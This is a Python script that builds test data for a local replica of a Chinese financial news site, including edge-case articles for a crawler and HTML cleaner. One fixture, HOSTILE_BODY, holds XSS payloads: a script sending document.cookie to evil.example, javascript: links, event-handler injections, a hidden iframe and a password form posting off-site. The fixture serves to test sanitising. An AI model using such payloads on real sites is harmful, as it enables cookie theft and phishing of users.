"""Build the replica's data directory from :mod:`corpus` and the edge cases below.

Writes ``data/articles/<CODE>.json`` for every article except the golden one
(that is :mod:`make_golden`'s), ``data/site.json`` (categories, their pages,
feeds) and ``data/README.md`` (what is where, generated so it cannot drift).
Run from anywhere; its output is committed::

    python -m tools.make_replica_data          # write
    python -m tools.make_replica_data --check  # compare only (exit 1 on a difference)

Everything here is deterministic: the same code gives byte-identical files.
"""

from __future__ import annotations

import argparse
import json
import re
import sys
from collections.abc import Iterable
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from typing import Any

from tools import make_golden
from tools import replica_corpus as corpus
from tools.replica_corpus import BOARDS, INFOKEYS, STOCKS, Spec

DATA_DIR = Path(__file__).resolve().parents[1] / "newscrawl" / "replica" / "data"
BEIJING = timezone(timedelta(hours=8))

HIDDEN = make_golden.HIDDEN
INDENT = make_golden.INDENT

# --------------------------------------------------------------------------- weaving


def keytip_html(name: str) -> str:
    quote_id = STOCKS[name]
    market, code = quote_id.split(".")
    return (
        f'<span id="stock_{quote_id}"><a href="http://quote.example/unify/r/{quote_id}"'
        f' class="keytip" data-code="{market},{code}">{name}</a></span>'
        f'<span id="quote_{quote_id}"></span>'
    )


def common_html(word: str) -> str:
    board = BOARDS[word]
    market, code = board.split(".")
    return (
        f'<span web="1" href="http://quote.example/unify/r/{board}"'
        f' class="em_stock_key_common" data-code="{market},{code}">{word}</span>'
    )


def infokey_html(word: str) -> str:
    span_id, link = INFOKEYS[word]
    return f'<span id="{span_id}"><a href="{link}" class="infokey">{word}</a></span>'


def chart_html(quote_id: str) -> str:
    return (
        "<!-- EM_StockImg_Start -->"
        f'<p style="text-align:center;"><a href="http://quote.example/unify/r/{quote_id}"'
        f' class="EmImageRemark"><img src="http://kline.example/GetPic.aspx?nid={quote_id}'
        '&imageType=k" border="0" /></a></p>'
        "<!-- EM_StockImg_End -->"
    )


def script_html(quote_id: str) -> str:
    return f'<script type="text/javascript">var emStockCodes = ["{quote_id}"];</script>'


def image_html(code: str, n: int) -> str:
    digits = re.sub(r"\D", "", code)
    return (
        f'<center><img src="https://img.example/D{digits}{n}_w800h555.jpg" alt="Image"'
        ' width="552" style="border:#d1d1d1 1px solid;" /></center>'
    )


def media_line(media: str) -> str:
    return f'<p class="em_media">（文章来源：{media}）</p>'


Span = tuple[int, int, str]  # start, end, replacement HTML
#: Inline styles the ``style`` flag puts on paragraphs (by index).
STYLES = {1: "text-indent:2em;", 3: "text-align:justify;"}


def _first_free(
    paragraphs: list[str], words: Iterable[str], taken: list[list[Span]]
) -> tuple[int, int, str] | None:
    """The earliest (longest on ties) occurrence of one of ``words`` not inside ``taken``."""
    for index, text in enumerate(paragraphs):
        blocked = [(s, e) for s, e, _ in taken[index]]
        blocked += [(m.start(), m.end()) for m in re.finditer(r"<[^>]*>", text)]
        best: tuple[int, int, str] | None = None
        for word in words:
            for match in re.finditer(re.escape(word), text):
                start, end = match.span()
                if any(start < e and s < end for s, e in blocked):
                    continue
                if best is None or (start, -(end - start)) < (best[0], -(best[1] - best[0])):
                    best = (start, end, word)
                break
        if best is not None:
            return index, best[0], best[2]
    return None


def weave(spec: Spec) -> tuple[str, list[str]]:
    """The dirty body of ``spec`` and the junk patterns actually woven in."""
    flags = spec.junk.split()
    unknown = set(flags) - {
        "hidden", "chart", "indent", "keytip", "common", "infokey", "style", "script", "nl", "crlf"
    }
    if unknown:
        raise ValueError(f"{spec.code}: unknown junk flags {sorted(unknown)}")
    paragraphs = spec.paragraphs
    taken: list[list[Span]] = [[] for _ in paragraphs]
    applied: list[str] = []
    stock_id = ""
    for flag, table, render in (
        ("keytip", STOCKS, keytip_html),
        ("common", BOARDS, common_html),
        ("infokey", INFOKEYS, infokey_html),
    ):
        if flag not in flags:
            continue
        found = _first_free(paragraphs, table, taken)
        if found is None:
            raise ValueError(f"{spec.code}: no word for {flag}")
        index, start, word = found
        taken[index].append((start, start + len(word), render(word)))
        applied.append(f"{flag}({word})")
        if flag == "keytip":
            stock_id = STOCKS[word]
    if not stock_id:
        found = _first_free(paragraphs, STOCKS, [[] for _ in paragraphs])
        stock_id = STOCKS[found[2]] if found else "1.000001"

    html_paragraphs = []
    for index, text in enumerate(paragraphs):
        for start, end, replacement in sorted(taken[index], reverse=True):
            text = text[:start] + replacement + text[end:]
        if "indent" in flags:
            text = INDENT + text
        opening = "<p>"
        if "style" in flags and index in STYLES:
            opening = f'<p style="{STYLES[index]}">'
        html_paragraphs.append(f"{opening}{text}</p>")

    # Picture k goes after paragraph 2k, but never after the last one.
    images_after: dict[int, list[int]] = {}
    for k in range(spec.images):
        images_after.setdefault(min(2 * k, max(len(paragraphs) - 2, 0)), []).append(k + 1)
    pieces: list[str] = []
    if "hidden" in flags:
        pieces.append(HIDDEN)
    for index, paragraph in enumerate(html_paragraphs):
        pieces.append(paragraph)
        if index == 0 and "chart" in flags:
            pieces.append(chart_html(stock_id))
        pieces += [image_html(spec.code, n) for n in images_after.get(index, [])]
        if index == 1 and "script" in flags:
            pieces.append(script_html(stock_id))
    pieces.append(media_line(spec.media))
    separator = "\r\n" if "crlf" in flags else "\n" if "nl" in flags else ""
    for flag in ("hidden", "chart", "indent", "style", "script", "nl", "crlf"):
        if flag in flags:
            applied.append(flag)
    if spec.images:
        applied.append(f"img×{spec.images}")
    return separator.join(pieces), applied


def plain(text: str) -> str:
    return re.sub(r"<[^>]+>", "", text)


def digest(spec: Spec) -> str:
    first = plain(spec.paragraphs[0])
    summary = first if len(first) <= 90 else first[:90] + "…"
    return f"【{spec.bracket}】{summary}" if spec.bracket else summary


TIME_KEYS = ("showtime", "datetime", "showTime")
MEDIA_KEYS = ("medianame", "mediaName", "from")
BODY_KEYS = ("text", "content")


def field_names(index: int) -> tuple[str, str, str]:
    """The field names article ``index`` uses: every variant occurs, in all combinations."""
    return TIME_KEYS[index % 3], MEDIA_KEYS[(index // 3) % 3], BODY_KEYS[(index // 9) % 2]


def payload(index: int, spec: Spec) -> tuple[dict[str, Any], list[str]]:
    time_key, media_key, body_key = field_names(index)
    body, applied = weave(spec)
    data = {
        "title": spec.title,
        time_key: spec.time,
        media_key: spec.media,
        "digest": digest(spec),
        body_key: body,
    }
    return data, applied


# ---------------------------------------------------------------------- edge cases


def clean_body(media: str | None, *paragraphs: str) -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return body + (media_line(media) if media else "")


def _article(title: Any, time: Any, media: str, *paragraphs: str, **extra: Any) -> dict[str, Any]:
    return {
        "title": title,
        "showtime": time,
        "medianame": media,
        "digest": plain(paragraphs[0])[:60],
        "text": clean_body(media, *paragraphs),
        **extra,
    }


def _deep_nesting(levels: int) -> str:
    return "<div>" * levels + "深层嵌套的段落文字。" + "</div>" * levels


HOSTILE_BODY = "\n".join([
    f"<p>{INDENT}某上市公司公告称，公司拟使用自有资金以集中竞价方式回购公司股份，回购资金总额不超过5亿元。</p>",
    '<script>alert("xss");document.location="http://evil.example/?c="+document.cookie;</script>',
    '<p><a href="javascript:alert(document.cookie)">点击查看公告原文</a></p>',
    '<p onclick="steal()" onmouseover="steal()">'
    "回购价格不超过每股25元，回购股份将全部用于员工持股计划。</p>",
    '<svg onload="alert(1)"><circle r="10" /></svg>',
    '<iframe src="http://evil.example/frame.html" width="0" height="0"></iframe>',
    '<img src="x" onerror="alert(2)" />',
    '<p><a href=" JaVaScRiPt:alert(3)">股东大会通知</a><style>body{display:none}</style></p>',
    '<form action="http://evil.example/login"><input name="password" /></form>',
    "<p>公司表示，本次回购彰显了对未来发展的信心<b>，<i>有利于维护广大投资者利益",
    _deep_nesting(500),
    media_line(corpus.ZQSB),
])

WIDGETS_ONLY_BODY = "\n".join([
    HIDDEN,
    chart_html("1.000001"),
    script_html("1.000001"),
    '<span id="quote_1.000001"></span>',
    HIDDEN,
])

P = corpus
EDGE_CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("NW202112282299000001", 'title with `"`, `\\` and `: #` (front matter quoting)',
     _article('研报精选："高股息"策略再受追捧 \\ 机构: #红利 #低波', "2021-12-28 10:15:00", P.ZQSB,
              "多家券商近日发布研报，认为在利率下行背景下，高股息策略的配置价值进一步凸显。",
              "机构建议关注现金流稳定、分红比例较高的公用事业、交通运输等行业龙头。")),
    ("NW202112282299000002", "title starting with `- ` (YAML sequence)",
     _article("- 2022年A股十大预测：结构性行情延续", "2021-12-28 11:02:31", P.ZGZQB,
              "岁末年初，多家机构发布2022年A股市场展望，结构性行情延续成为主流判断。",
              "机构普遍认为，稳增长政策发力将为市场提供支撑，盈利增速放缓则制约指数空间。")),
    ("NW202112282299000003", "title starting with `[` (YAML flow sequence)",
     _article("[快讯] 央行开展100亿元7天期逆回购操作", "2021-12-28 09:15:08", P.ZGZQB,
              "中国人民银行今日以利率招标方式开展了100亿元7天期逆回购操作，中标利率2.20%。")),
    ("NW202112282299000004", "emoji in the title (non-BMP characters)",
     _article("🚀新能源车销量再创新高📈 产业链持续景气", "2021-12-28 20:30:00", P.SSJJ,
              "乘联会数据显示，12月前三周新能源乘用车零售销量同比增长超过一倍。",
              "业内人士预计，全年新能源汽车销量有望突破340万辆。")),
    ("NW202112282299000005", "title with a newline and a tab",
     _article("央行：保持流动性\n合理充裕\t稳定市场预期", "2021-12-28 08:00:00", P.ZGZQB,
              "央行货币政策委员会第四季度例会指出，要保持流动性合理充裕，稳定市场预期。")),
    ("NW202112282299000006", "time `2021/12/28 19:34:54` (slashes)",
     _article("工信部：加快推进千兆光网和5G协同发展", "2021/12/28 19:34:54", P.RMYDB,
              "工业和信息化部表示，将加快推进千兆光网和5G网络协同发展，扩大网络覆盖。")),
    ("NW202112282299000007", "time `2021年12月28日 19:34` (Chinese, no seconds)",
     _article("重庆：前11月外贸进出口总值同比增长23%", "2021年12月28日 19:34", P.CQRB,
              "重庆海关统计，今年前11个月，重庆外贸进出口总值7370亿元，同比增长23%。")),
    ("NW202112282299000008", "time `2021-12-28T11:34:54Z` (ISO 8601, UTC)",
     _article("银保监会发布保险公司偿付能力监管规则", "2021-12-28T11:34:54Z", P.ZGYHBXB,
              "银保监会近日发布保险公司偿付能力监管规则（Ⅱ），自2022年一季度起实施。")),
    ("NW202112282299000009", "time `2021-12-28T19:34:54+08:00` (ISO 8601, +08:00)",
     _article("深交所：持续优化创业板注册制审核流程", "2021-12-28T19:34:54+08:00", P.ZQSB,
              "深交所表示，将持续优化创业板注册制审核流程，提升审核透明度和可预期性。")),
    ("NW202112282299000010", "time `Tue, 28 Dec 2021 11:34:54 GMT` (RFC 2822)",
     _article("港股ADR多数走高 阿里巴巴涨逾2%", "Tue, 28 Dec 2021 11:34:54 GMT", P.AXGJ,
              "隔夜港股ADR多数走高，按比价计算，阿里巴巴、京东集团等涨逾2%。")),
    ("NW202112282299000011", "time as epoch seconds, a JSON number (1640691294)",
     _article("沪市ETF规模突破1万亿元", 1640691294, P.SHZQB,
              "上交所数据显示，沪市ETF总规模突破1万亿元，较年初增长超过三成。")),
    ("NW202112282299000012", 'time as epoch milliseconds, a string ("1640691294000")',
     _article("国债期货全线收涨 30年期主力合约涨0.46%", "1640691294000", P.ZGZQB,
              "国债期货全线收涨，30年期主力合约涨0.46%，10年期主力合约涨0.12%。")),
    ("NW202112282299000013", "time `12-28 19:34` (no year, no seconds)",
     _article("多家车企宣布2022年起上调售价", "12-28 19:34", P.SSJJ,
              "受芯片和原材料成本上涨影响，多家新能源车企宣布自2022年1月1日起上调部分车型售价。")),
    ("NW202112282299000014", "unreadable time `not a date`",
     _article("两融余额连续三日回升", "not a date", P.ZQSB,
              "沪深两市融资融券余额连续三个交易日回升，截至12月27日报1.83万亿元。")),
    ("NW202112282299000015", "time far in the future `2099-01-01 00:00:00`",
     _article("新三板精选层公司转板上市稳步推进", "2099-01-01 00:00:00", P.ZQSB,
              "截至目前，已有多家精选层公司完成转板上市，转板机制运行平稳。")),
    ("NW202112282299000016", "empty title (time present)",
     _article("", "2021-12-28 13:05:00", P.ZGZQB,
              "本报讯 证监会今日就修订上市公司章程指引公开征求意见。")),
    ("NW202112282299000017", "empty title and empty time (§4: `_posts/-CODE.md`)",
     _article("", "", P.ZGZQB, "本报讯 沪深交易所发布2022年元旦休市安排。")),
    ("NW202112282299000018", "no media field at all, no source line in the body",
     {"title": "私募基金备案规模创新高", "datetime": "2021-12-28 14:20:00",
      "digest": "中基协数据显示，私募基金管理规模突破20万亿元。",
      "text": clean_body(None, "中基协数据显示，截至11月末，私募基金管理规模突破20万亿元。")}),
    ("NW202112282299000019", "body of widgets only: empty after cleaning",
     {"title": "沪指盘中走势图", "showtime": "2021-12-28 10:30:00", "medianame": P.SHZQB,
      "digest": "", "text": WIDGETS_ONLY_BODY}),
    ("NW202112282299000020", "hostile HTML: `<script>`, `javascript:` hrefs, `onclick=`, "
     "`<svg onload>`, `<iframe>`, `<form>`, `<style>`, unclosed tags, 500 nested `<div>`",
     {"title": "某公司公告：拟回购不超过5亿元股份", "showtime": "2021-12-28 18:40:00",
      "medianame": P.ZQSB, "digest": "某上市公司公告称，公司拟回购股份。", "text": HOSTILE_BODY}),
    ("NW202112282299000021", "fault: first request answers 503, later ones the article",
     _article("中国联通发布2022年5G终端计划", "2021-12-28 16:45:00", P.RMYDB,
              "中国联通发布2022年5G终端发展计划，提出全年5G终端销量目标同比增长超过30%。",
              _replica={"fail_first": 503})),
    ("NW202112282299000022", "fault: always answers 404 (article withdrawn)",
     {"_replica": {"status": 404}}),
    ("NW202112282299000023", "fault: 200 with truncated JSON",
     {"_replica": {"raw": '{"title": "证监会：进一步规范上市公司股份回购行为", '
                          '"showtime": "2021-12-28 17:20:00", "medianame": "证券时报", '
                          '"text": "<p>证监会近日发布'}}),
    ("NW202112282299000024", "200 with an empty object `{}`", {}),
    ("NW202112282299000025", '200 with an error object `{"error": "not found"}`',
     {"error": "not found"}),
    ("NW202112282299000026", "slow: answers after 1.5 s (`delay`)",
     _article("重庆港口集装箱吞吐量创新高", "2021-12-28 12:12:12", P.CQRB,
              "重庆港务物流集团消息，今年重庆港口集装箱吞吐量预计突破130万标箱，创历史新高。",
              _replica={"delay": 1.5})),
    ("NW202112282299000027", "empty `text` with the body in `content`; `showTime`, `mediaName`",
     {"title": "人身险公司前11月保费收入同比增长", "showTime": "2021-12-28 15:00:00",
      "mediaName": P.ZGYHBXB, "digest": "人身险公司保费收入保持增长。", "text": "",
      "content": clean_body(P.ZGYHBXB, "银保监会数据显示，前11月人身险公司保费收入3.1万亿元。")}),
]

#: Only linked from ``/private/`` (disallowed by robots.txt): a crawl that yields it ignored robots.
PRIVATE_CODE = "NW202112312299000028"
PRIVATE_ARTICLE = _article("内部参考：明日早盘提示", "2021-12-31 20:00:00", P.ZQSB,
                           "本文仅供内部参考，不得转载。")
#: Listed on the test category page, has no data file: the endpoint answers 404.
UNKNOWN_CODE = "NW202112282299009999"

# ------------------------------------------------------------------ site structure

PAGINATION_STYLES = ("full", "rel", "text", "numbers")
SLOW_PAGE = ("zhongguozhengquanbao", 2, 1.5)  # category slug, page, seconds

NOISE_LINKS = [
    {"href": "/", "text": "返回首页"},
    {"href": "/tags.html", "text": "标签云"},
    {"href": "javascript:void(0)", "text": "收藏本页"},
    {"href": "http://example.com/ad/landing.html", "text": "广告：开户送好礼"},
    {"href": "/private/drafts.html", "text": "内部稿件"},
]


def _paginate(links: list[str], sizes: list[int]) -> list[list[str]]:
    """Split ``links`` in pages of ``sizes``; each page repeats the last link of the previous."""
    pages: list[list[str]] = []
    start = 0
    for size in sizes:
        chunk = links[start:start + size]
        start += size
        if pages:
            chunk = [pages[-1][-1], *chunk]
        pages.append(chunk)
    return pages


def post_path(slug: str, time: str, code: str) -> str:
    """The archive post page of ``code`` at Jekyll's default permalink (the live archive's)."""
    return f"/{slug}/{time[:10].replace('-', '/')}/{code}.html"


def old_post_path(time: str, code: str) -> str:
    """Where Jekyll served a post the archive's first generator had moved to ``old_post/``."""
    return f"/old_post/{time[:10]}-{code}.html"


def rolling_news_entry(code: str, index: int) -> dict[str, str]:
    """What the rolling-news list says of ``code`` besides the article: its entry's id
    (the code's digits, as the source numbers them) and the article's page on the main site."""
    entry_id = re.sub(r"\D", "", code)
    column = (1351, 1353)[index % 2]
    return {"id": entry_id, "url_w": f"http://finance.eastmoney.com/news/{column},{entry_id}.html"}


def site(normal: list[tuple[str, str, str]]) -> dict[str, Any]:
    """site.json: ``normal`` is (code, media, time) of every ordinary article."""
    times = {code: time for code, _, time in normal}
    times.update((code, data["showtime"]) for code, _, data in EDGE_CASES[:1])
    posts: dict[str, str] = {}
    categories = []
    for index, (media, slug) in enumerate(corpus.CATEGORY_SLUGS.items()):
        own = sorted((c for c in normal if c[1] == media), key=lambda c: c[2], reverse=True)
        # The second newest is linked through its archive post page, the others directly.
        links = [f"{'post' if i == 1 else 'share'}:{code}" for i, (code, _, _) in enumerate(own)]
        sizes = [2, 2, len(links) - 4] if index % 2 == 0 else [3, len(links) - 3]
        pages = [{"links": page} for page in _paginate(links, sizes)]
        posts.update((link[5:], post_path(slug, times[link[5:]], link[5:]))
                     for link in links if link.startswith("post:"))
        if make_golden.CODE in (c[0] for c in own):
            # Linked at the page Jekyll made of it in old_post/ (the first generator moved it).
            pages[-1]["links"].append(f"post:{make_golden.CODE}")
            posts[make_golden.CODE] = old_post_path(times[make_golden.CODE], make_golden.CODE)
        if slug == SLOW_PAGE[0]:
            pages[SLOW_PAGE[1] - 1]["delay"] = SLOW_PAGE[2]
        categories.append({
            "slug": slug, "title": f"{media}新闻", "media": media,
            "pagination": PAGINATION_STYLES[index % len(PAGINATION_STYLES)], "pages": pages,
        })
    edge = [code for code, _, _ in EDGE_CASES]
    edge_links = [f"post:{c}" if c == edge[0] else f"share:{c}" for c in edge]
    posts[edge[0]] = post_path("ceshi", times[edge[0]], edge[0])
    edge_links.insert(14, f"share:{UNKNOWN_CODE}")
    categories.append({
        "slug": "ceshi", "title": "测试专栏", "media": None, "pagination": "full",
        "pages": [{"links": page} for page in _paginate(edge_links, [14, len(edge_links) - 14])],
    })
    newest = [c[0] for c in sorted(normal, key=lambda c: c[2], reverse=True)]
    newest_time = max(c[2] for c in normal)
    last_modified = datetime.strptime(newest_time, "%Y-%m-%d %H:%M:%S").replace(tzinfo=BEIJING)
    return {
        "site_name": "财经资讯（本地副本）",
        "last_modified": format_datetime(last_modified.astimezone(timezone.utc), usegmt=True),
        "noise_links": NOISE_LINKS,
        "categories": categories,
        "private_links": [f"share:{PRIVATE_CODE}"],
        "posts": dict(sorted(posts.items())),
        "feeds": {
            "102": newest[:10],
            "45": newest[1::3][:10],
            "37": newest[5:15],
        },
        "rolling_news": {code: rolling_news_entry(code, index)
                         for index, code in enumerate(newest[:10])},
    }


# ---------------------------------------------------------------------- the README


def readme(rows: list[tuple[str, str, str, str, str]], site_data: dict[str, Any]) -> str:
    lines = [
        "# Replica data",
        "",
        "Generated by `python -m tools.make_replica_data` (everything but the golden",
        "article) and `python -m tools.make_golden` (the golden article, from",
        "`tests/resources/golden_post.md`). Do not edit by hand: change the",
        "generators (article texts: `tools/replica_corpus.py`) and run them again.",
        "",
        "- `articles/<CODE>.json`: what `/NewsData/GetNewsText.do?id=CODE` answers. A",
        '  `"_replica"` key holds the fault to play and is stripped before serving:',
        '  `fail_first` (status of the first answer; `fail_count` answers, default 1),',
        "  `status` (always that status), `raw` (these bytes verbatim), `delay` (seconds),",
        "  `url_w` (the share link the `type=102` feed gives for it, verbatim).",
        "- `site.json`: category pages (links per page: `share:CODE` is a share link on",
        "  the requested host, `post:CODE` a link to the archive post page of CODE, at the",
        "  path `posts` gives: Jekyll's default permalink `/<slug>/YYYY/MM/DD/CODE.html`, or",
        "  `/old_post/YYYY-MM-DD-CODE.html` for a post the archive's first generator moved;",
        "  `href:URL` a link to URL as given, `{host}` replaced by the requested host),",
        "  the links every category page also carries (`noise_links`, never to be followed),",
        "  the links of `/private/`, the codes of each list feed (served newest first), and",
        "  what the rolling-news list says of its entries besides the article (`rolling_news`:",
        "  the entry's `id`, which names its post, and `url_w`, the article's page).",
        "",
        "Every time in the ordinary articles is Beijing time, `YYYY-MM-DD HH:MM:SS`.",
        "",
        "## Ordinary articles",
        "",
        "Junk woven into the body (SOURCE.md §3); a correct cleaner removes all of it",
        "and keeps the words of keyword links. Bodies without junk are already clean.",
        "",
        "| code | media | time | fields (time, media, body) | junk |",
        "| --- | --- | --- | --- | --- |",
    ]
    lines += [f"| `{c}` | {m} | {t} | {f} | {j or 'none (clean)'} |" for c, m, t, f, j in rows]
    lines += [
        "",
        f"`{make_golden.CODE}` is the golden article: a correct cleaner turns its `text`",
        "into exactly the body of the golden post.",
        "",
        "## Edge-case articles",
        "",
        "Listed only on `/category/ceshi.html` (two pages), never on a media category",
        "page nor in a feed. All times that are readable denote 2021-12-28 19:34(:54) at",
        "+08:00 for the time-format cases.",
        "",
        "| code | exercises |",
        "| --- | --- |",
    ]
    lines += [f"| `{code}` | {what} |" for code, what, _ in EDGE_CASES]
    lines += [
        f"| `{UNKNOWN_CODE}` | listed on `ceshi` but has no data file: the endpoint answers 404 |",
        f"| `{PRIVATE_CODE}` | linked only from `/private/drafts.html` (disallowed by robots.txt):"
        " a crawl that yields it ignored robots.txt |",
        "",
        "## Category pages",
        "",
        "`/category/<slug>.html` is page 1; `?page=N` is page N (`?page=1` too). Pagination",
        "styles: `full` = numbered `?page=N` links + `<a rel=\"next\">下一页</a>`; `rel` =",
        "`<link rel=\"next\">` + `<a rel=\"next\">»</a>`;",
        "`text` = `<a href=\"?page=N\">下一页</a>` (relative, query only);",
        "`numbers` = numbered links only. Every last page links",
        "back to page 1 (`第一页`). Each page after the first repeats the last link of the",
        "page before. Every page also links (must not be followed): "
        + ", ".join(f"`{link['href']}`" for link in site_data["noise_links"]) + ".",
        "",
        "| slug | title | pagination | page: links | codes reachable |",
        "| --- | --- | --- | --- | --- |",
    ]
    for category in site_data["categories"]:
        pages = []
        codes: list[str] = []
        for number, page in enumerate(category["pages"], start=1):
            slow = f" (delay {page['delay']} s)" if page.get("delay") else ""
            pages.append(f"{number}{slow}: " + ", ".join(f"`{link}`" for link in page["links"]))
            codes += [link.split(":", 1)[1] for link in page["links"]]
        unique = sorted(set(codes))
        lines.append(
            f"| `{category['slug']}` | {category['title']} | {category['pagination']} | "
            + "<br>".join(pages) + f" | {len(unique)}: " + ", ".join(f"`{c}`" for c in unique)
            + " |"
        )
    lines += [
        "",
        "## List feeds",
        "",
        "Newest first; `count=N` keeps the first N. Every code is also on a category page, so",
        "a crawl of both gives each rolling-news article two posts. The rolling-news entries'",
        "ids are their codes' digits: a bare-digit code's two posts have the same name.",
        "",
        "| feed | codes |",
        "| --- | --- |",
        "| `/web/webapi?type=102` (`records`: `id`, `digest`, `url_w`) | "
        + ", ".join(f"`{c}`" for c in site_data["feeds"]["102"]) + " |",
        "| `/web/webapi?type=45` (`nodeList`) | "
        + ", ".join(f"`{c}`" for c in site_data["feeds"]["45"]) + " |",
        "| `/newmarket/web/webapi?marketType=37` (`record`) | "
        + ", ".join(f"`{c}`" for c in site_data["feeds"]["37"]) + " |",
        "",
    ]
    return "\n".join(lines)


# -------------------------------------------------------------------------- output


def dump(data: Any) -> str:
    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"


def build() -> dict[str, str]:
    """Relative path -> file text, for everything this script owns."""
    files: dict[str, str] = {}
    codes = [spec.code for spec in corpus.ARTICLES] + [c for c, _, _ in EDGE_CASES]
    codes += [make_golden.CODE, PRIVATE_CODE]
    if len(set(codes)) != len(codes):
        raise ValueError("duplicate article code")
    rows = [(make_golden.CODE, make_golden.MEDIA, make_golden.SHOWTIME,
             "showtime, medianame, text", "golden: see make_golden.py")]
    normal = [(make_golden.CODE, make_golden.MEDIA, make_golden.SHOWTIME)]
    for index, spec in enumerate(corpus.ARTICLES):
        data, applied = payload(index, spec)
        files[f"articles/{spec.code}.json"] = dump(data)
        rows.append((spec.code, spec.media, spec.time, ", ".join(field_names(index)),
                     " ".join(applied)))
        normal.append((spec.code, spec.media, spec.time))
    for code, _, data in EDGE_CASES:
        files[f"articles/{code}.json"] = dump(data)
    files[f"articles/{PRIVATE_CODE}.json"] = dump(PRIVATE_ARTICLE)
    site_data = site(normal)
    files["site.json"] = dump(site_data)
    files["README.md"] = readme(rows, site_data)
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DATA_DIR, help="data directory")
    parser.add_argument("--check", action="store_true", help="compare, do not write")
    args = parser.parse_args(argv)
    files = build()
    if args.check:
        stale = [p for p, text in files.items()
                 if not (args.out / p).exists() or (args.out / p).read_text("utf-8") != text]
        for path in stale:
            print(f"DIFFERS: {path}")
        if not stale:
            print(f"{len(files)} files under {args.out}: up to date")
        return 1 if stale else 0
    for path, text in files.items():
        target = args.out / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    print(f"wrote {len(files)} files under {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
